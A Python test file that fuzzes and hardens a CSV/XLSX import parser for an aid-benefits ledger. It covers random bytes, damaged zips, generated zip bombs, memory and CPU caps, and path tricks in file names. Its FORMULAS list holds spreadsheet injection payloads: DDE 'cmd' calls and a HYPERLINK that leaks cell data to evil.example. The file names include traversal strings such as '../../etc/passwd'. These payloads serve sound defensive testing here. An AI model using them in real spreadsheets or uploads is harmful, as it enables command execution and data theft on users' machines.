"""Hostile files against every parser: each case ends in a clean, specific error (RowError
list, RejectedFile, DomainError) or a correct load; never a crash, a hang or a partial
write. Hypothesis generates the bytes; a hard timer (SIGALRM) turns a hang into a failure.

Every file parsed here is also parsed by the row-by-row parser the column-wise one replaced
(``tests/reference_parser.py``): both must give the same rows, row numbers, errors and
warnings (the differential test), except where a limit the old parser lacked refuses the
file, naming the limit. The bombs of issue 16 are generated here (never committed) and
parsed in a fresh process whose peak memory is measured.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import tempfile
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from api import files
from api.files import limits
from api.loader import load_directory
from api.wiring import Store
from domain import catalogue
from domain.errors import DomainError, RejectedFile
from domain.ledger import check_row_types
from tests import reference_parser

PARSE_SECONDS_MAX = 20  # a hang is a failure, not a slow test
EXAMPLES = int(os.environ.get("AIDLEDGER_HARDENING_EXAMPLES", "100"))
HOUSEHOLDS_HEADER = ("household_id,township,village,head_name,head_id_number,members,"
                     "bank_account,account_holder,disclosure_exempt")
GOOD_HOUSEHOLD = "QX000001,东山街道,柳树村,丁超,430524194104180939,3,6228158608283008259,丁超,"
FORMULAS = ("=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "\t=1+1",
            "\r=1+1")
FUZZ = settings(max_examples=EXAMPLES, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


class Hang(Exception):
    """The parser did not finish within PARSE_SECONDS_MAX."""


@contextmanager
def time_limit(seconds: float = PARSE_SECONDS_MAX) -> Iterator[None]:
    def fire(signum: int, frame: object) -> None:
        raise Hang(f"no answer within {seconds} s")

    previous = signal.signal(signal.SIGALRM, fire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


# Words of the messages of limits the row parser did not have: a file refused by one of
# them is not compared with the reference (it is checked to name its limit instead).
NEW_LIMITS = ("(MAX_", "(PARSE_", "(SHARED_STRING")


def parse_bytes(name: str, raw: bytes, kind: str | None = None) -> files.ParsedFile:
    """Write ``raw`` as ``name`` in a fresh folder and parse it, under the time limit, with
    the column-wise parser and with the reference: both must say the same."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / name
        path.write_bytes(raw)
        with time_limit():
            parsed = files.parse_file(path, kind=kind)
            if path.suffix.lower() in files.SUFFIXES:
                assert_same_as_reference(parsed, reference_parser.parse_file(path, parsed.kind))
        return parsed


def assert_same_as_reference(parsed: files.ParsedFile,
                             reference: reference_parser.ParsedFile) -> None:
    if any(word in e.reason for e in parsed.errors for word in NEW_LIMITS):
        return  # a limit the row parser lacked: the message names it
    assert parsed.errors == reference.errors
    assert parsed.warnings == reference.warnings
    assert (parsed.sha256, parsed.encoding) == (reference.sha256, reference.encoding)
    assert parsed.row_numbers == reference.row_numbers
    assert list(parsed.rows) == reference.rows


def assert_clean_outcome(parsed: files.ParsedFile) -> None:
    """Either specific problems, or rows that are exactly the kind's typed columns."""
    assert all(isinstance(e, files.RowError) and str(e) for e in parsed.errors)
    assert len(parsed.errors) <= limits.MAX_ERRORS_LISTED + 1
    if parsed.errors:
        return
    assert len(parsed.rows) == len(parsed.row_numbers)
    for row in parsed.rows:
        check_row_types(parsed.kind, row)
        for column in catalogue.columns(parsed.kind):
            if column.value_required(row):
                assert row[column.name] not in (None, ""), (column.name, row)


KINDS = st.sampled_from(sorted(catalogue.names()))


@FUZZ
@given(kind=KINDS, raw=st.binary(max_size=4096))
def test_random_bytes_as_any_csv_end_in_errors_or_a_correct_parse(kind: str, raw: bytes) -> None:
    assert_clean_outcome(parse_bytes(f"{kind}.csv", raw))


@FUZZ
@given(kind=KINDS, raw=st.binary(max_size=4096))
def test_random_bytes_as_any_xlsx_end_in_errors(kind: str, raw: bytes) -> None:
    parsed = parse_bytes(f"{kind}.xlsx", raw)
    assert parsed.errors, "random bytes are never a workbook"
    assert_clean_outcome(parsed)


def _workbook(rows: list[list[object]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


GOOD_XLSX = _workbook([HOUSEHOLDS_HEADER.split(","), GOOD_HOUSEHOLD.split(",")])


@FUZZ
@given(flips=st.lists(st.tuples(st.integers(0, len(GOOD_XLSX) - 1), st.integers(0, 255)),
                      min_size=1, max_size=8))
def test_a_damaged_xlsx_ends_in_errors_or_a_correct_parse(flips: list[tuple[int, int]]) -> None:
    raw = bytearray(GOOD_XLSX)
    for offset, value in flips:
        raw[offset] = value
    assert_clean_outcome(parse_bytes("households.xlsx", bytes(raw)))


def test_a_zip_needing_a_newer_zip_version_is_a_file_error_not_a_parser_crash() -> None:
    """Found by the test above: a damaged "version needed to extract" (6.4, above what
    zipfile reads) made zipfile raise NotImplementedError from the bomb check."""
    raw = bytearray(GOOD_XLSX)
    directory = raw.find(b"PK\x01\x02")
    assert directory > 0
    raw[directory + 6:directory + 8] = (64).to_bytes(2, "little")
    parsed = parse_bytes("households.xlsx", bytes(raw))
    assert parsed.errors and parsed.table.num_rows == 0
    assert_clean_outcome(parsed)


CELL_TEXT = st.one_of(st.text(max_size=200), st.sampled_from(FORMULAS),
                      st.text(alphabet=st.characters(codec="utf-8"), max_size=50))


@FUZZ
@given(cells=st.lists(st.lists(CELL_TEXT, min_size=0, max_size=12), max_size=20),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030", "utf-16", "utf-32",
                                 "latin-1", "shift_jis", "big5"]))
def test_any_cells_in_any_encoding_end_in_errors_or_a_correct_parse(
        cells: list[list[str]], encoding: str) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(HOUSEHOLDS_HEADER.split(","))
    writer.writerows(cells)
    raw = buffer.getvalue().encode(encoding, errors="replace")
    assert_clean_outcome(parse_bytes("households.csv", raw))


@FUZZ
@given(cells=st.lists(st.lists(st.one_of(CELL_TEXT, st.integers(), st.floats(),
                                         st.dates(), st.booleans(), st.none()),
                               max_size=10), max_size=15))
def test_any_cells_in_a_workbook_end_in_errors_or_a_correct_parse(
        cells: list[list[object]]) -> None:
    rows: list[list[object]] = [HOUSEHOLDS_HEADER.split(",")]
    rows += [[_xlsx_safe(c) for c in row] for row in cells]
    assert_clean_outcome(parse_bytes("households.xlsx", _workbook(rows)))


def _xlsx_safe(value: object) -> object:
    """openpyxl refuses control characters in cells; a real workbook cannot hold them."""
    if isinstance(value, str):
        from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def test_a_csv_with_ten_thousand_columns_is_parsed_or_refused_quickly() -> None:
    header = HOUSEHOLDS_HEADER + "," + ",".join(f"extra{n}" for n in range(10_000))
    row = GOOD_HOUSEHOLD + "," + ",".join("x" * 10 for _ in range(10_000))
    parsed = parse_bytes("households.csv", f"{header}\n{row}\n".encode())
    assert parsed.ok, parsed.errors
    assert_clean_outcome(parsed)
    assert [r["household_id"] for r in parsed.rows] == ["QX000001"]


def test_a_cell_beyond_the_csv_field_limit_is_a_row_error_not_a_crash() -> None:
    huge = "丁" * 200_000
    parsed = parse_bytes("households.csv",
                         f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD.replace('丁超', huge)}\n".encode())
    assert_clean_outcome(parsed)
    assert any("field larger than field limit" in e.reason for e in parsed.errors)


def test_a_huge_row_of_many_lines_is_parsed_within_the_time_limit() -> None:
    body = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(50_000))
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{body}\n".encode())
    assert parsed.ok and len(parsed.rows) == 50_000


def test_rows_beyond_max_rows_reject_the_file_naming_the_limit(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_ROWS", 3)
    body = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(5))
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{body}\n".encode())
    assert any("more than 3 rows" in e.reason for e in parsed.errors)


def test_a_file_beyond_max_file_bytes_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 100)
    raw = f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD}\n".encode()
    parsed = parse_bytes("households.csv", raw)
    assert [e.reason for e in parsed.errors] == [f"file too large: {len(raw)} bytes (limit 100)"]


@pytest.mark.parametrize("payload", FORMULAS[:5])
def test_a_formula_in_a_text_cell_is_kept_as_inert_text(payload: str) -> None:
    line = GOOD_HOUSEHOLD.replace("丁超,430", f'"{payload.replace(chr(34), chr(34) * 2)}",430')
    parsed = parse_bytes("households.csv", f"{HOUSEHOLDS_HEADER}\n{line}\n".encode())
    assert parsed.ok, parsed.errors
    assert parsed.rows[0]["head_name"] == payload


def test_a_formula_in_an_amount_cell_is_a_row_error() -> None:
    text = ("household_id,program,monthly_amount,start_period,exit_period,gradual_exit_until\n"
            "QX000001,dibao,=1+1,2025-01,,\n")
    parsed = parse_bytes("enrolments.csv", text.encode())
    assert [(e.row, e.column) for e in parsed.errors] == [(2, "monthly_amount")]


def test_an_xlsx_formula_without_a_cached_value_is_an_empty_cell_not_code() -> None:
    raw = _workbook([HOUSEHOLDS_HEADER.split(","),
                     ["QX000001", "东山街道", "柳树村", "=cmd|' /C calc'!A0",
                      "430524194104180939", "=1+2", "6228158608283008259", "丁超", ""]])
    parsed = parse_bytes("households.xlsx", raw)
    assert {(e.column, e.reason) for e in parsed.errors} == {
        ("head_name", "required value is empty"), ("members", "required value is empty")}


def test_a_zip_bomb_shaped_xlsx_is_refused_by_its_directory_naming_the_limit() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"<" * 5_000_000)
    parsed = parse_bytes("households.xlsx", out.getvalue())
    assert [e.reason for e in parsed.errors] == [
        "[Content_Types].xml unpacks 1026 times its packed size, more than the 100 limit "
        "(MAX_COMPRESSION_RATIO)"]


# -- the column-wise parser reads CSV as the csv module does ------------------------------
CSV_PIECES = st.sampled_from(['"', '""', ",", ";", "\t", "\r", "\n", "\r\n", " ", "\u3000",
                              "a", "１２", "300.50", "1,234.5", "-5", "2025-03", "低保", "成功",
                              "\x00", "é", "\u200b"])
PAYROLL_HEADER = ("批次号,序号,救助类别,发放年月,乡镇(街道),户编号,收款人,收款人身份证号,"
                  "银行账号,金额")
BANK_HEADER = "批次号,序号,户名,账号,金额（元）,状态,失败原因,入账日期"


@FUZZ
@given(body=st.lists(CSV_PIECES, max_size=80),
       header=st.sampled_from([PAYROLL_HEADER, BANK_HEADER, HOUSEHOLDS_HEADER]),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "gb18030"]))
def test_quotes_and_line_ends_anywhere_read_as_the_csv_module_reads_them(
        body: list[str], header: str, encoding: str) -> None:
    kind = {PAYROLL_HEADER: "payroll", BANK_HEADER: "bank_return"}.get(header, "households")
    raw = (header + "\n" + "".join(body)).encode(encoding, errors="replace")
    assert_clean_outcome(parse_bytes(f"{kind}.csv", raw))


PAYROLL_CELLS = {
    "批次号": st.sampled_from(["B1", "B2", " B1 ", "Ｂ１", ""]),
    "序号": st.sampled_from(["1", "001", "2", "2.0", "3.5", "", "x", "9" * 30]),
    "救助类别": st.sampled_from(["低保", "dibao", "tekun", "养老金", "", " 特困 "]),
    "发放年月": st.sampled_from(["2025-03", "202503", "2025/3", "2025-13", "", "２０２５－０３"]),
    "乡镇(街道)": st.sampled_from(["城关镇", "城关\u200b镇", "", "镇" * 101, " 东山街道 "]),
    "户编号": st.sampled_from(["H1", "H2", "", "Ｈ３"]),
    "金额": st.sampled_from(["300", "300.50", "1,234.50", "1_000", "1e3", "-5", "12.345",
                           "¥300", "300元", "", "NaN", "0", "-0", "999999999999.99",
                           "1000000000000.01", "３００"]),
}


@FUZZ
@given(rows=st.lists(st.fixed_dictionaries(PAYROLL_CELLS), max_size=30),
       as_xlsx=st.booleans())
def test_typed_payroll_cells_read_as_the_row_parser_read_them(
        rows: list[dict[str, str]], as_xlsx: bool) -> None:
    header = list(PAYROLL_CELLS)
    table = [header] + [[row[h] for h in header] for row in rows]
    if as_xlsx:
        parsed = parse_bytes("payroll.xlsx", _workbook(table))  # type: ignore[arg-type]
    else:
        buffer = io.StringIO()
        csv.writer(buffer).writerows(table)
        parsed = parse_bytes("payroll.csv", buffer.getvalue().encode())
    assert_clean_outcome(parsed)


def test_an_amount_cell_holding_a_yes_no_value_is_refused_like_any_bad_amount() -> None:
    raw = _workbook([PAYROLL_HEADER.split(","),
                     ["B1", 1, "低保", "2025-03", "城关镇", "H1", "", "", "", True]])
    parsed = parse_bytes("payroll.xlsx", raw)
    assert [(e.row, e.column, e.reason) for e in parsed.errors] == [
        (2, "金额", "not an amount: 'TRUE'")]


# -- file names --------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["../households.csv", "/etc/households.csv",
                                  "..\\..\\households.csv", "households.csv/../x.csv"])
def test_path_tricks_in_a_file_name_name_only_the_last_part(name: str) -> None:
    from starlette.datastructures import UploadFile

    from api.routers.imports import upload_name

    chosen = upload_name(UploadFile(io.BytesIO(b""), filename=name), "households")
    assert "/" not in chosen and chosen not in ("", ".", "..")


@pytest.mark.parametrize("name", ["households\x00.csv", "..", "", "a\r\n.csv", "x" * 300 + ".csv",
                                  "households.csv\x00.txt"])
def test_an_upload_name_with_control_characters_or_nothing_usable_is_refused(name: str) -> None:
    from starlette.datastructures import UploadFile

    from api.routers.imports import upload_name

    with pytest.raises(DomainError):
        upload_name(UploadFile(io.BytesIO(b""), filename=name), "households")


def test_kind_of_ignores_folders_and_nul_tricks() -> None:
    assert files.kind_of("households.csv\x00.txt") is None
    assert files.kind_of("../../etc/passwd") is None
    assert files.kind_of("/abs/path/payroll_2025-01.csv") == "payroll"


def test_a_folder_only_loads_regular_files_directly_inside_it(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "households.csv").write_text(f"{HOUSEHOLDS_HEADER}\n", encoding="utf-8")
    (tmp_path / "deaths.csv").mkdir()  # a folder named like a contract file
    assert files.discover(tmp_path) == []


# -- nothing is written when anything is wrong -------------------------------------------
@pytest.fixture(scope="module")
def empty_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Store]:
    with Store(f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'ledger.db'}") as store:
        yield store


@FUZZ
@given(raw=st.binary(max_size=2048), suffix=st.sampled_from([".csv", ".xlsx"]),
       kind=st.sampled_from(["payroll", "bank_return", "enrolments", "reserve"]))
def test_a_folder_with_one_hostile_file_is_rejected_whole_and_writes_nothing(
        empty_store: Store, raw: bytes, suffix: str, kind: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        (folder / "households.csv").write_text(f"{HOUSEHOLDS_HEADER}\n{GOOD_HOUSEHOLD}\n",
                                               encoding="utf-8")
        (folder / f"{kind}_x{suffix}").write_bytes(raw)
        before = empty_store.ledger.recorder.max_notification_id() or 0
        with time_limit(), pytest.raises(RejectedFile) as rejected:
            load_directory(empty_store, folder)
        assert rejected.value.problems
        assert (empty_store.ledger.recorder.max_notification_id() or 0) == before == 0


# -- the bombs of issue 16: refused by a named limit, under the stated peak ----------------
SHEET_OPEN = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
              b"<sheetData>")
SHEET_CLOSE = b"</sheetData></worksheet>"
STRINGS_OPEN = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WRITE_CHUNK_ITEMS = 100_000
# A bomb costs at most this far above the parent's own memory, in the capped child.
BOMB_PEAK_BYTES_MAX = limits.PARSE_MEMORY_BYTES_MAX


def _skeleton(archive: zipfile.ZipFile, with_strings: bool) -> None:
    strings_type = ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>')
    archive.writestr("[Content_Types].xml", (
        '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
        '/package/2006/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        '"application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName='
        '"/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.worksheet+xml"/>'
        + (strings_type if with_strings else "") + "</Types>"))
    archive.writestr("_rels/.rels", (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        f'{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'))
    archive.writestr("xl/workbook.xml", (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" xmlns:r="{REL}">'
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'))
    strings_rel = (f'<Relationship Id="rId2" Type="{REL}/sharedStrings" '
                   'Target="sharedStrings.xml"/>')
    archive.writestr("xl/_rels/workbook.xml.rels", (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL}'
        '/worksheet" Target="worksheets/sheet1.xml"/>'
        + (strings_rel if with_strings else "") + "</Relationships>"))


def _write_part(archive: zipfile.ZipFile, name: str, head: bytes, item: bytes, count: int,
                tail: bytes) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=True) as part:
        part.write(head)
        for start in range(0, count, WRITE_CHUNK_ITEMS):
            part.write(item * min(WRITE_CHUNK_ITEMS, count - start))
        part.write(tail)


def _bomb_xlsx(path: Path, sheet: tuple[bytes, bytes, int, bytes],
               strings: tuple[bytes, bytes, int, bytes] | None = None,
               strings_chunks: Iterator[bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        _skeleton(archive, strings is not None or strings_chunks is not None)
        _write_part(archive, "xl/worksheets/sheet1.xml", *sheet)
        if strings is not None:
            _write_part(archive, "xl/sharedStrings.xml", *strings)
        if strings_chunks is not None:
            info = zipfile.ZipInfo("xl/sharedStrings.xml")
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as part:
                for chunk in strings_chunks:
                    part.write(chunk)
    return path


def _distinct_strings(count: int) -> Iterator[bytes]:
    """A table of ``count`` different texts (they pack like real names, not like a bomb)."""
    yield STRINGS_OPEN
    for start in range(0, count, WRITE_CHUNK_ITEMS):
        stop = min(start + WRITE_CHUNK_ITEMS, count)
        yield "".join(f"<si><t>{n:x}</t></si>"
                      for n in range(start, stop)).encode()
    yield b"</sst>"


def _one_cell_sheet(reference: bytes = b'<c r="A1" t="s"><v>0</v></c>') -> tuple:
    return (SHEET_OPEN + b'<row r="1">' + reference, b"", 0, b"</row>" + SHEET_CLOSE)


BOMBS = {
    # name: (file, how it is made, the limit its message must name)
    "xlsx_one_row_of_20m_cells": ("payroll.xlsx", lambda p: _bomb_xlsx(
        p, (SHEET_OPEN + b'<row r="1">', b"<c><v>1</v></c>", 20_000_000,
            b"</row>" + SHEET_CLOSE)), "MAX_SHEET_UNPACKED_BYTES"),
    "xlsx_one_300mb_shared_string": ("payroll.xlsx", lambda p: _bomb_xlsx(
        p, _one_cell_sheet(), (STRINGS_OPEN + b"<si><t>", b"a" * 1000, 300_000,
                               b"</t></si></sst>")), "MAX_SHARED_STRINGS_BYTES"),
    "xlsx_3m_unreferenced_shared_strings": ("payroll.xlsx", lambda p: _bomb_xlsx(
        p, _one_cell_sheet(), None, _distinct_strings(3_000_000)),
        "SHARED_STRING_CELL_BYTES_MIN"),
    "xlsx_6m_one_cell_rows": ("payroll.xlsx", lambda p: _bomb_xlsx(
        p, (SHEET_OPEN, b"<row><c><v>1</v></c></row>", 6_000_000, SHEET_CLOSE)),
        "MAX_COMPRESSION_RATIO"),
    "csv_200mb_line_of_20m_fields_at_row_12": ("households.csv", lambda p: _bomb_csv(p),
                                               "MAX_ROW_BYTES"),
}


def _bomb_csv(path: Path) -> Path:
    with open(path, "wb") as out:
        out.write(f"{HOUSEHOLDS_HEADER}\n".encode())
        for n in range(10):
            out.write(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}").encode() + b"\n")
        for _ in range(20_000_000 // WRITE_CHUNK_ITEMS):
            out.write(b"123456789," * WRITE_CHUNK_ITEMS)
        out.write(b"\n")
    return path


MEASURE = """
import json, os, resource, sys, time
from api.files import parse_file
def rss():
    with open('/proc/self/statm') as f:
        return int(f.read().split()[1]) * os.sysconf('SC_PAGE_SIZE')
baseline = rss()
start = time.perf_counter()
parsed = parse_file(sys.argv[1])
print(json.dumps({
    'errors': [str(e) for e in parsed.errors], 'baseline_bytes': baseline,
    'seconds': time.perf_counter() - start, 'file_bytes': os.path.getsize(sys.argv[1]),
    'child_peak_bytes': resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024}))
"""


def measure_parse(path: Path) -> dict:
    """Parse in a fresh process: its messages, its baseline memory and its child's peak."""
    import json
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-c", MEASURE, str(path)], capture_output=True,
                          text=True, timeout=600, check=True,
                          cwd=Path(__file__).resolve().parents[2])
    return json.loads(done.stdout.strip().splitlines()[-1])


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_a_bomb_is_refused_naming_its_limit_under_the_stated_peak(
        tmp_path: Path, bomb: str) -> None:
    name, make, limit = BOMBS[bomb]
    path = make(tmp_path / name)
    measured = measure_parse(path)
    above = measured["child_peak_bytes"] - measured["baseline_bytes"]
    print(f"BOMB {bomb}: {measured['file_bytes']} bytes, {measured['seconds']:.2f} s, "
          f"peak {above / limits.MIB:.0f} MiB above a baseline of "
          f"{measured['baseline_bytes'] / limits.MIB:.0f} MiB: {measured['errors']}")
    assert len(measured["errors"]) == 1 and limit in measured["errors"][0]
    assert measured["errors"][0].startswith(name)
    assert above < BOMB_PEAK_BYTES_MAX


def test_a_file_needing_more_memory_than_the_cap_is_refused_naming_the_cap(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "PARSE_MEMORY_BYTES_MAX", 8 * limits.MIB)
    body = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(200_000))
    path = tmp_path / "households.csv"
    path.write_text(f"{HOUSEHOLDS_HEADER}\n{body}\n", encoding="utf-8")
    parsed = files.parse_file(path)
    assert [e.reason for e in parsed.errors] == [
        "reading it needs more than 8 MB of memory (PARSE_MEMORY_BYTES_MAX): split the file "
        "or save it as CSV"]
    assert parsed.table.num_rows == 0


def test_files_parsed_two_at_a_time_each_keep_their_own_outcome_and_caps(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A folder's files are parsed by two capped children at once: each result is the one
    ``parse_file`` gives alone, in the order asked, and one file past the memory cap is
    refused without touching the files parsed beside it."""
    small = [HOUSEHOLDS_HEADER, *(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}")
                                  for n in range(50))]
    paths = []
    for name in ("a", "b", "c"):
        (tmp_path / name).mkdir()
        paths.append(tmp_path / name / "households.csv")
        paths[-1].write_text("\n".join(small) + "\n", encoding="utf-8")
    alone = [files.parse_file(path) for path in paths]
    monkeypatch.setattr(limits, "PARSE_MEMORY_BYTES_MAX", 8 * limits.MIB)
    big = "\n".join(GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}") for n in range(200_000))
    paths[1].write_text(f"{HOUSEHOLDS_HEADER}\n{big}\n", encoding="utf-8")
    together = files.parse_files([(path, None) for path in paths], jobs=2)
    assert [p.path for p in together] == paths
    for one, other in ((together[0], alone[0]), (together[2], alone[2])):
        assert (one.sha256, one.errors, one.table) == (other.sha256, other.errors, other.table)
    assert [e.reason for e in together[1].errors] == [
        "reading it needs more than 8 MB of memory (PARSE_MEMORY_BYTES_MAX): split the file "
        "or save it as CSV"]
    assert together[1].table.num_rows == 0


def test_a_file_taking_more_cpu_than_its_allowance_is_refused_naming_the_limit(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "PARSE_CPU_SECONDS_BASE", 1)
    monkeypatch.setattr(limits, "PARSE_CPU_SECONDS_PER_MIB_XLSX", 0)
    rows = [HOUSEHOLDS_HEADER.split(",")] + [
        GOOD_HOUSEHOLD.replace("QX000001", f"QX{n:06d}").split(",") for n in range(60_000)]
    path = tmp_path / "households.xlsx"
    path.write_bytes(_workbook(rows))
    parsed = files.parse_file(path)
    assert [e.reason for e in parsed.errors] == [
        "reading it takes more than 1 CPU seconds (PARSE_CPU_SECONDS_BASE + "
        "PARSE_CPU_SECONDS_PER_MIB_XLSX per MiB): split the file"]


@pytest.mark.parametrize("bomb", ["xlsx_one_row_of_20m_cells", "xlsx_6m_one_cell_rows"])
def test_a_bomb_uploaded_over_http_is_refused_naming_its_limit_and_writes_nothing(
        tmp_path: Path, bomb: str) -> None:
    from tests.e2e.conftest import running_api

    name, make, limit = BOMBS[bomb]
    raw = make(tmp_path / name).read_bytes()
    for api in running_api(f"sqlite:///{tmp_path / 'api.db'}", tmp_path):
        before = api.store.ledger.recorder.max_notification_id()
        refused = api.post("/imports/payroll", "finance",
                           files={"file": ("payroll_2025-09.xlsx", raw, "application/zip")})
        assert refused.status_code == 400, refused.text
        assert [limit in p for p in refused.json()["problems"]] == [True]
        assert api.store.ledger.recorder.max_notification_id() == before


def test_the_demo_county_parses_as_the_row_parser_parsed_it(tmp_path: Path) -> None:
    from api.sample_county import generate_county

    truth = generate_county(tmp_path / "county")
    paths = files.discover(truth.directory)
    assert {files.kind_of(p) for p in paths} == set(catalogue.names())
    for path in paths:
        parsed = files.parse_file(path)
        assert parsed.ok and parsed.table.num_rows > 0, parsed.errors
        assert_same_as_reference(parsed, reference_parser.parse_file(path, parsed.kind))


def test_a_workbook_row_wider_than_the_limit_is_refused_before_openpyxl_builds_it(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_COLUMNS", 12)
    raw = _workbook([HOUSEHOLDS_HEADER.split(","), GOOD_HOUSEHOLD.split(",") + ["x"] * 20])
    parsed = parse_bytes("households.xlsx", raw)
    assert [(e.row, e.reason) for e in parsed.errors] == [
        (2, "more than 12 columns (MAX_COLUMNS): not a county register")]
